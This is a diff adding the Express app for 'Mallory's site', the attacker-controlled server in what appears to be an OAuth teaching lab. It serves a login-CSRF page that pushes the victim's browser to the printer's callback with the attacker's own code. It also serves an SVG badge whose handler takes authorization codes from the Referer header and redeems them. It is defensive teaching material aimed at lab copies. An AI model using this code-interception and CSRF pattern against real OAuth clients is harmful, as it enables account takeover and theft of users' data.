@@ -1,0 +1,119 @@
+/**
+ * @module app
+ *
+ * Mallory's site, "free photo filters": an ordinary web site that an attacker controls (issue 16). It is the
+ * fourth party of the printer's attack lab (/lab on the printer): it receives what leaks to it, makes the victim's
+ * browser open links it crafts, and shows what Mallory got. It attacks only the lab copies that the learner
+ * switched a defense off for; the real printer, auth server and Drive keep every defense.
+ *
+ * createApp() builds the app without listening (server.ts listens), like the other services.
+ */
+import { join } from 'node:path';
+import express, { type Express, type NextFunction, type Request, type Response } from 'express';
+import { securityHeaders } from '@oauth-demo/web';
+import { callbackWithMallorysCode, redeemStolenCode } from './attacks.js';
+import type { AttackerConfig } from './config.js';
+import { LootBox, RUN_ID } from './loot.js';
+
+export interface AttackerApp {
+  app: Express;
+  loot: LootBox;
+  close(): Promise<void>;
+}
+
+export const VIEWS_DIR = join(import.meta.dirname, '..', 'views');
+export const ASSETS_DIR = join(import.meta.dirname, '..', 'assets');
+
+/** Her "photo filter" badge: the image the lab's careless page embeds (and whose request carries the Referer). */
+const BADGE = `<svg xmlns="http://www.w3.org/2000/svg" width="240" height="60" viewBox="0 0 240 60"><rect width="240" height="60" rx="10" fill="#7c3aed"/><text x="120" y="37" font-family="sans-serif" font-size="18" fill="#fff" text-anchor="middle">✨ Free photo filters</text></svg>`;
+
+function runOf(value: unknown): string | undefined {
+  return typeof value === 'string' && RUN_ID.test(value) ? value : undefined;
+}
+
+export function createApp(config: AttackerConfig): AttackerApp {
+  const loot = new LootBox();
+  const app = express();
+  app.disable('x-powered-by');
+  app.set('view engine', 'ejs');
+  app.set('views', VIEWS_DIR);
+  app.locals.config = { printer: config.printer.publicUrl, auth: config.auth.publicUrl, attacker: config.attacker.publicUrl };
+  app.use(securityHeaders);
+  app.use('/assets', express.static(ASSETS_DIR, { maxAge: '1h', index: false }));
+
+  app.get('/healthz', (_req, res) => {
+    res.json({ status: 'ok' });
+  });
+
+  app.get('/', (req, res) => {
+    res.render('home', { title: 'Free photo filters', run: runOf(req.query.run) });
+  });
+
+  // What Mallory got in one learner's run, as a page and as JSON (the printer's lab reads the JSON: a scoreboard).
+  app.get('/loot/:run', (req, res) => {
+    const run = runOf(req.params.run);
+    if (!run) {
+      res.status(404).render('message', { title: 'Nothing here', text: 'No such run.' });
+      return;
+    }
+    res.setHeader('Cache-Control', 'no-store');
+    res.render('loot', { title: 'What Mallory got', run, loot: loot.list(run) });
+  });
+  app.get('/api/loot/:run', (req, res) => {
+    const run = runOf(req.params.run);
+    res.setHeader('Cache-Control', 'no-store');
+    res.json({ loot: run ? loot.list(run) : [] });
+  });
+
+  // Scenario 1 (CSRF on the callback): the victim opens Mallory's page; she has just fetched a code for HER OWN
+  // account, and the page sends the victim's browser on to the printer's callback with it.
+  app.get('/csrf/:run', async (req, res) => {
+    const run = runOf(req.params.run);
+    if (!run) {
+      res.status(404).render('message', { title: 'Nothing here', text: 'No such run.' });
+      return;
+    }
+    const callback = await callbackWithMallorysCode(config);
+    loot.add(run, {
+      scenario: 'csrf',
+      success: true,
+      summary: 'Mallory got a code for her own Drive account and sent your browser to the printer’s callback with it.',
+      details: [callback.replace(/code=[^&]+/, 'code=…')],
+    });
+    res.setHeader('Cache-Control', 'no-store');
+    res.render('csrf', { title: 'Loading your free filters…', callback });
+  });
+
+  // Scenario 2 (code interception): the badge a careless page embeds. Its request carries that page's URL in
+  // the Referer header, code included; Mallory redeems the code before the victim's printer does.
+  app.get('/filters/badge.svg', async (req, res) => {
+    res.setHeader('Content-Type', 'image/svg+xml');
+    res.setHeader('Cache-Control', 'no-store');
+    const run = runOf(req.query.run);
+    const referer = req.get('referer');
+    let code: string | null = null;
+    try {
+      code = referer ? new URL(referer).searchParams.get('code') : null;
+    } catch {
+      code = null;
+    }
+    if (run && code) {
+      const result = await redeemStolenCode(config, code);
+      loot.add(run, { scenario: 'pkce', ...result, details: [`Referer: ${referer!.replace(/code=[^&]+/, 'code=…')}`, ...result.details] });
+    } else if (run) {
+      loot.add(run, { scenario: 'pkce', success: false, summary: 'Her badge was loaded, but no code came with it.', details: referer ? [`Referer: ${referer}`] : ['No Referer header.'] });
+    }
+    res.send(BADGE);
+  });
+
+  app.use((_req, res) => {
+    res.status(404).render('message', { title: 'Nothing here', text: 'This page does not exist.' });
+  });
+  app.use((error: unknown, _req: Request, res: Response, _next: NextFunction) => {
+    const text = error instanceof Error ? error.message : String(error);
+    console.error(`Mallory's site: ${text}`);
+    res.status(502).render('message', { title: 'Mallory’s attack did not go through', text });
+  });
+
+  return { app, loot, async close() {} };
+}
